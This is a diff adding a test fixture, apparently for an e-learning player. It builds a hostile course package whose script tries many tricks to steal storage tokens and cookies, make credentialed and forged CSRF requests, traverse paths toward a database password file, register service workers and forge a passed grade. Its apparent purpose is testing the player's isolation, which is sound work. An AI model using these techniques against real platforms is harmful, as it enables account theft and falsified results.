@@ -1,0 +1,157 @@
+// A course that tries to get at what is not its own: from its frame in the player, and from a window it opens itself.
+import { makeZip, manifestOf } from '../make-zip.ts'
+
+/** What was gained, by trick; nothing where it failed. */
+export type Loot = Record<string, string>
+
+/** Runs in the page of the course: it must stand by itself. */
+async function tryEverything(site: string): Promise<Loot> {
+  const own = (globalThis as { parent: Window }).parent === globalThis.window ? window.opener : parent
+  const reads = (url: string, how: RequestInit = {}) => fetch(url, how).then((answer) => answer.text())
+  const framed = (fill: (frame: HTMLIFrameElement) => void) =>
+    new Promise<string>((tell) => {
+      const frame = document.createElement('iframe')
+      frame.name = `frame${Math.random()}`
+      frame.onload = () => {
+        let found = ''
+        try {
+          found =
+            frame.contentWindow?.location.href === 'about:blank' ? '' : String(frame.contentDocument?.title)
+        } catch {
+          // What is on another origin may not be looked at.
+        }
+        tell(found)
+      }
+      fill(frame)
+      document.body.append(frame)
+    })
+  const loaded = (element: HTMLImageElement | HTMLScriptElement | HTMLLinkElement) =>
+    new Promise<string>((tell) => {
+      element.onload = () => tell('loaded')
+      element.onerror = () => tell('')
+      document.body.append(element)
+    })
+  const opened = async (url: string, name: string, look: (other: Window) => string) => {
+    const other = window.open(url, name)
+    if (!other) return ''
+    await new Promise((go) => setTimeout(go, 1_000))
+    try {
+      return look(other)
+    } finally {
+      other.close()
+    }
+  }
+
+  const tricks: Record<string, () => unknown> = {
+    'the window that opened the player': () => own.opener ?? own.top.opener,
+    'the page of that window': () => own.top.opener?.document.title,
+    'a token in the storage': () => localStorage.getItem('user'),
+    'a token in the storage of the session': () => sessionStorage.getItem('user'),
+    'a token in the storage of the player': () => own.localStorage.getItem('user'),
+    cookies: () => document.cookie,
+    'leading the whole window elsewhere': () => {
+      if (window.top === window) return ''
+      ;(window.top as Window).location.href = `${site}/stolen`
+      return 'led'
+    },
+    'a call of the product': () => reads(`${site}/api/Dashboard/LearnerDashboard`),
+    'a call with whatever the browser knows': () =>
+      reads(`${site}/api/Dashboard/LearnerDashboard`, { credentials: 'include' }),
+    'a call that asks first': () =>
+      reads(`${site}/api/Dashboard/LearnerDashboard`, { headers: { authorization: 'Bearer stolen' } }),
+    'a call with its ticket for a token': () =>
+      reads(`${site}/api/Dashboard/LearnerDashboard`, {
+        headers: { authorization: `Bearer ${location.pathname.split('/')[2]}` },
+      }),
+    'a call by the older way': () =>
+      new Promise((tell, fail) => {
+        const request = new XMLHttpRequest()
+        request.open('GET', `${site}/api/Account/GetAccount`)
+        request.withCredentials = true
+        request.onload = () => tell(request.responseText)
+        request.onerror = fail
+        request.send()
+      }),
+    'a stream of the product': () =>
+      new Promise((tell, fail) => {
+        const stream = new EventSource(`${site}/api/openapi.json`)
+        stream.onopen = tell
+        stream.onerror = fail
+      }),
+    'a form that posts to the product': () =>
+      framed((frame) => {
+        const form = document.createElement('form')
+        Object.assign(form, { method: 'POST', enctype: 'text/plain', target: frame.name })
+        form.action = `${site}/api/ContactForm/Submit`
+        const field = document.createElement('input')
+        Object.assign(field, { name: '{"firstName":"Forged","x":"', value: '"}' })
+        form.append(field)
+        document.body.append(form)
+        setTimeout(() => form.submit())
+      }),
+    'the product in a frame': () => framed((frame) => (frame.src = `${site}/`)),
+    'the page of that window, from a frame without a sandbox': () =>
+      framed((frame) => {
+        frame.srcdoc = `<script>
+          const player = top.opener ? top.opener.top : top
+          document.title = player.opener.document.title
+        </script>`
+      }),
+    'a picture of the product': () => loaded(Object.assign(new Image(), { src: `${site}/favicon.png` })),
+    'a script of the product': () =>
+      loaded(Object.assign(document.createElement('script'), { src: `${site}/api/openapi.json` })),
+    'the product in a window of its own': () =>
+      opened(`${site}/`, '_blank', (other) => other.document.title || String(other.localStorage.length)),
+    'a window of the product by its name': () =>
+      opened('', 'player', (other) => (other.location.href === 'about:blank' ? '' : other.location.href)),
+    'a name that two origins share': () => {
+      document.domain = 'localhost'
+      return own.top.opener?.document.title
+    },
+    'a worker that stays': () => navigator.serviceWorker.register('worker.js').then(() => 'registered'),
+    'a worker for the whole origin': () =>
+      navigator.serviceWorker.register('worker.js', { scope: '/' }).then(() => 'registered'),
+    'an address that is not its own': () => {
+      history.pushState({}, '', `${site}/login`)
+      return location.href
+    },
+    'files beside its own': () => reads('..%2f..%2f..%2fpackages%2findex.html').then(unlessRefused),
+    'the settings of the server': () => reads('%2e%2e/%2e%2e/postgres/password').then(unlessRefused),
+    "another learner's window": () => reads(`/playcourse/${'A'.repeat(43)}/state`).then(unlessRefused),
+    'a result by message': () => {
+      for (const target of [own, own.top, window.top as Window])
+        target.postMessage({ type: 'commit', sco: 'one', cmi: { lessonStatus: 'passed' } }, '*')
+      return ''
+    },
+    'what is on the clipboard': () => navigator.clipboard.readText(),
+  }
+
+  /** Refusals are answered in the envelope of the product, or as a page that says so. */
+  function unlessRefused(text: string) {
+    return /"success":false|<h1>This window has ended/.test(text) ? '' : text
+  }
+
+  const loot: Loot = {}
+  for (const [name, trick] of Object.entries(tricks)) {
+    const waited = new Promise((tell) => setTimeout(tell, 2_500))
+    const gained = await Promise.race([Promise.resolve().then(trick), waited]).catch(() => undefined)
+    loot[name] = gained ? String(gained) : ''
+  }
+  return loot
+}
+
+const page = (site: string) => `<!doctype html>
+<html lang="en"><title>Hostile</title><p>Nothing to see here.</p>
+<script>
+  const api = parent.API
+  if (api) { api.LMSInitialize(''); api.LMSSetValue('cmi.core.lesson_status', 'incomplete') }
+  var loot = (${tryEverything.toString().replaceAll('</', '<\\/')})(${JSON.stringify(site)})
+</script>`
+
+export function hostileCourse(site: string): Buffer {
+  return makeZip([
+    { name: 'imsmanifest.xml', data: manifestOf() },
+    { name: 'index.html', data: page(site) },
+    { name: 'worker.js', data: 'addEventListener("fetch", () => {})' },
+  ])
+}
